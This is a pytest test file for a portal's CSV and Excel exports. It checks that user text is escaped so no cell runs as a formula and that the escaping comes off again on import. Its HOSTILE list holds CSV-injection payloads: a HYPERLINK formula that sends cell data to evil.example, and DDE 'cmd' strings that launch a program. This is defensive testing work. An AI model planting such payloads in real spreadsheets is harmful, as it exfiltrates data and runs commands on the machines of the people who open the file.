"""No user text runs as a spreadsheet formula in any export, and what goes out comes back."""

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from portal.actor import SYSTEM
from portal.cells import FORMULA_START, neutralise, restore
from portal.directory._import import import_file
from portal.exports import directory as dir_export, plan as plan_export, situation as sit_export
from portal.exports.tabular import csv_bytes, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEADER = (
    "name,organization,description,categories,target_groups,languages,phone,email,url,"
    "visibility,verified_on\n"
)


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(data: bytes) -> list[object]:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formula_cells(data: bytes) -> None:
    for cell in _xlsx_cells(data):
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_and_restore_round_trip(value):
    safe = neutralise(value)
    assert safe.startswith("'") and restore(safe) == value
    assert neutralise("Samtal, stöd") == "Samtal, stöd"
    assert neutralise(-2) == -2  # numbers stay numbers


def test_tabular_csv_and_xlsx_never_carry_a_formula():
    import pandas as pd

    df = pd.DataFrame({"text": HOSTILE, "n": range(len(HOSTILE))})
    cells = _csv_cells(csv_bytes(df))
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    data = xlsx_bytes({"Blad": df})
    _assert_no_formula_cells(data)
    values = [c.value for c in _xlsx_cells(data)]
    assert HOSTILE[0] in values  # the text itself is kept, as text
    assert 3 in values  # numbers stay numbers


def _import_hostile(tmp_path: Path) -> None:
    rows = "".join(
        f'"{v.replace(chr(34), chr(34) * 2)}",Org {i},"{v.replace(chr(34), chr(34) * 2)}",'
        ",,,,,,internal,\n"
        for i, v in enumerate(HOSTILE[:4])
    )
    path = tmp_path / "hostile.csv"
    path.write_text(HEADER + rows, encoding="utf-8")
    assert import_file(path, SYSTEM) == 4


def test_directory_exports_defuse_hostile_entries_and_read_back(db_path, tmp_path):
    _import_hostile(tmp_path)
    data = dir_export.csv_data("admin")
    cells = _csv_cells(data)
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'" + HOSTILE[0] in cells
    _assert_no_formula_cells(dir_export.xlsx_data("admin"))
    # HSDS tables are CSV too
    folder = tmp_path / "hsds"
    dir_export.write_hsds(folder, dir_export.entries_for("admin"))
    for file in folder.glob("*.csv"):
        text = file.read_text(encoding="utf-8")
        hsds = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        assert not [c for c in hsds if c.startswith(FORMULA_START)], file.name
    # what the portal exports, it imports: the apostrophe comes off again
    out = tmp_path / "out.csv"
    out.write_bytes(data)
    before = len(dir_export.entries_for("admin"))
    assert import_file(out, SYSTEM) == before
    names = {e["name"] for e in dir_export.entries_for("admin")}
    assert set(HOSTILE[:4]) <= names
    assert not any(n.startswith("'") for n in names)


def test_plan_and_situation_workbooks_have_no_formula_cells(demo_db, tmp_path):
    plan_export.export("xlsx", tmp_path / "plan.xlsx")
    _assert_no_formula_cells((tmp_path / "plan.xlsx").read_bytes())
    sit_export.export("xlsx", tmp_path / "situation.xlsx")
    data = (tmp_path / "situation.xlsx").read_bytes()
    _assert_no_formula_cells(data)
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        assert ws["A1"].font.bold
        assert all(ws.column_dimensions[c.column_letter].width >= 8 for c in ws[1])
